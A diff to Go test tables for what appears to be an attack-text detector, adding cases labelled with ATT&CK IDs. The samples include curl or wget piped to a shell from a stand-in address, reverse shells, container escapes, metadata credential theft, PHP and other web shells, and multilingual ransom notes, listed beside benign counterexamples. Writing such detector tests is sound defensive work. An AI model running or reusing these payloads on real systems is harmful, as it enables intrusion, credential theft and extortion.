@@ -62,6 +62,8 @@ func TestCronFamily(t *testing.T) {
 		{"in a hash of settings", "0 3 * * * " + wget + " -qO- http://" + address + "/a|" + sh, "cron-job", "T1053.003"},
 		{"at boot", "\n@reboot /dev/shm/.x/run >/dev/null 2>&1\n", "cron-job", "T1053.003"},
 		{"a path between breaks", "\n\n* * * * * root /usr/local/bin/pnscan\n\n", "cron-job", "T1053.003"},
+		{"between tabs", "\n*/2\t*\t*\t*\t*\t" + curl + "\t-k\thttp://" + address + "/x\t|\t" + sh + "\n", "cron-job", "T1053.003"},
+		{"at boot, behind a tab", "\n@reboot\t" + fetch + "\n", "cron-job", "T1053.003"},
 		{"encoded", "\n*/5 * * * * root echo " + base64.StdEncoding.EncodeToString([]byte(fetch)) + "|base" + "64 -d|ba" + sh + "\n", "cron-job", "T1053.003"},
 
 		{"schedule in prose", "run */5 * * * * in the docs sandbox", "", ""},
@@ -71,6 +73,7 @@ func TestCronFamily(t *testing.T) {
 		{"an application's own", "*/10 * * * * /usr/bin/php /srv/app/artisan schedule:run", "", ""},
 		{"with a health check", "0 3 * * * " + curl + " -fsS -m 10 --retry 5 https://hc.synthetic.test/ping/7f3c >/dev/null", "", ""},
 		{"markdown", "* * * a list * * * of stars\n* * * * * that is no table", "", ""},
+		{"a table with tabs", "*\t*\tname\tvalue\n@daily\tbackup of the archive", "", ""},
 	})
 }
 
@@ -130,6 +133,8 @@ func TestShellFamilies(t *testing.T) {
 		{"zsh", "zsh -c 'zmodload zsh/net" + "/tcp && zt" + "cp " + address + " 9001'", "reverse-shell", "T1059.004"},
 		{"go", "c,_:=net.Di" + "al(\"tcp\",\"" + address + ":9001\");cmd:=exec.Com" + "mand(\"/bin/sh\")", "reverse-shell", "T1059.004"},
 		{"node", "var net=require(\"net\"),cp=require(\"child_" + "process\");var c=new net.Soc" + "ket();c.connect(9001,\"" + address + "\")", "reverse-shell", "T1059.004"},
+		{"sourced", ". <(" + curl + " -s http://" + address + "/x)", "pipe-to-shell", "T1059.004"},
+		{"netcat, the shell last", "busybox nc " + address + " 4444 -e " + sh, "reverse-shell", "T1059.004"},
 
 		{"library that fetches", "def load(u):\n    return json.loads(urlopen(u).read())", "", ""},
 		{"packed library", "var a=require(\"http\");x.exec(b);" + strings.Repeat("var u='https://a.test/';f(g);", 40), "", ""},
@@ -167,6 +172,11 @@ func TestHostFamily(t *testing.T) {
 		{"shell of root", "cp /bin/bash /tmp/.b; chm" + "od 4755 /tmp/.b", "privilege-escalation", "T1548.001"},
 		{"out of a container", "docker run -v" + " /:/mnt --rm -it alpine chroot /mnt sh", "privilege-escalation", "T1611"},
 		{"search for servers", "mass" + "can 0.0.0.0/0 -p6379 --rate 100000", "network-scan", "T1046"},
+		{"search for servers, zgrab2", "zgr" + "ab2 redis --port=6379 -f ips", "network-scan", "T1046"},
+		{"out of a container by its init", "nsen" + "ter --target 1 --mount --pid -- bash", "privilege-escalation", "T1611"},
+		{"out of a container by a group", "echo /cmd > /tmp/cgrp/release" + "_agent", "privilege-escalation", "T1611"},
+		{"hidden, in a script", "#!/bin/sh\n/var/tmp/.x/run &\nexit 0\n", "hidden-program", "T1564.001"},
+		{"table that is added to", "(crontab -l; echo \"* * * * * /opt/x\") | cron" + "tab -", "privileged-file-write", "T1053.003"},
 		{"credentials of a host", curl + " http://169.254." + "169.254/latest/meta-data/iam/security-credentials/ | " + curl + " -F f=@- http://" + address, "metadata-theft", "T1552.005"},
 		{"account of root with a hash", "\nsys:$6$" + random("salt", 8, alnumAlphabet) + "$" + random("sha", 86, alnumAlphabet) + ":0:0:root:/root:/bin/bash\n", "privileged-account-line", "T1136.001"},
 
@@ -175,6 +185,8 @@ func TestHostFamily(t *testing.T) {
 		{"rights of a program", "chmod 4755 /usr/bin/sudo", "", ""},
 		{"volume of a container", "docker run -v /data:/data app", "", ""},
 		{"about a scan", "masscan found 6379 open", "", ""},
+		{"list of files", "/tmp/.X11-unix/X0\n/tmp/.ICE-unix/12\n", "", ""},
+		{"about groups", "notify_on_release runs the program named in /sys/fs/cgroup/release_agent", "", ""},
 		{"how to read the metadata", curl + " http://169.254.169.254/latest/meta-data/iam/security-credentials/role", "", ""},
 		{"how to add a user", "use useradd -m to create users", "", ""},
 		{"adduser in a Dockerfile", "RUN adduser --disabled-login app", "", ""},
@@ -197,6 +209,7 @@ func TestWebShellFamily(t *testing.T) {
 		{"backticks", php + "echo `$_G" + "ET[c]`; ?" + ">", "web-shell", "T1505.003"},
 		{"put together", php + "$a=\"as\".\"sert\";$" + "a($_POST[\"x\"]);?" + ">", "web-shell", "T1505.003"},
 		{"that decrypts", php + "$p=file_get_contents(\"php://" + "input\");$p=openssl_" + "decrypt($p,\"AES128\",$k);class C{function f($p){ev" + "al($p.\"\");}} ?" + ">", "web-shell", "T1505.003"},
+		{"that decrypts at once", php + "$p=file_get_contents(\"php://" + "input\");ev" + "al(openssl_" + "decrypt($p,\"AES128\",$k)); ?" + ">", "web-shell", "T1505.003"},
 		{"python", "#!/usr/bin/python\nprint(os.po" + "pen(cgi.Field" + "Storage().getvalue(\"c\")).read())", "web-shell", "T1505.003"},
 		{"node", "require(\"child_" + "process\").exec(require(\"url\").parse(q.url,true).que" + "ry.cmd,f)", "web-shell", "T1505.003"},
 		{"perl", "use CGI;my $q=new CGI;sys" + "tem($q->param(\"cmd\"));", "web-shell", "T1505.003"},
@@ -251,10 +264,15 @@ func TestRansomFamily(t *testing.T) {
 		{"Spanish", "Sus datos han sido cifrados. Para recuperarlos envíe 0.03 bitcoin a " + base, "ransom-note", "T1485"},
 		{"Russian", "Ваша база данных удалена. Для восстановления отправьте 0.05 BTC на " + bech, "ransom-note", "T1485"},
 		{"Chinese", "您的数据库已被备份并删除，请支付0.05 BTC到" + bech, "ransom-note", "T1485"},
+		{"Chinese, the coin by its name", "您的数据库已被备份并删除。请支付 0.015 比特币 以恢复数据", "ransom-note", "T1485"},
+		{"Russian, in a sentence of its own", "Все ваши данные сохранены на нашем сервере. Отправьте 0.01 BTC чтобы восстановить базу", "ransom-note", "T1485"},
+		{"German, pay", "Alle Ihre Daten wurden gesichert und gelöscht. Zahlen Sie 0.02 Bitcoin", "ransom-note", "T1485"},
+		{"Ether", "Your DB is ours now. Pay 0.5 ETH or it will be sold in 48h", "ransom-note", "T1485"},
 		{"dollars", "Database is gone. We have a copy. Pay $500 in bitcoin. Contact us on telegram", "ransom-note", "T1485"},
 		{"host of Tor", "Your files were encrypted and your data was exfiltrated. Visit http://" + base32Of("onion", 56) + ".onion to negotiate the ransom", "ransom-note", "T1485"},
 		{"shop in German", "Ihre Daten sind sicher. Bezahlen Sie 0,05 BTC für die Bestellung", "", ""},
 		{"price", "Pay 0.05 BTC for your order and send the receipt", "", ""},
+		{"price in Ether", "Send 0.5 ETH to mint, your key is recorded", "", ""},
 		{"news", "A ransom of bitcoin was asked of the hospital", "", ""},
 		{"policy", "Your data is encrypted and backed up. Contact us by e-mail.", "", ""},
 	})
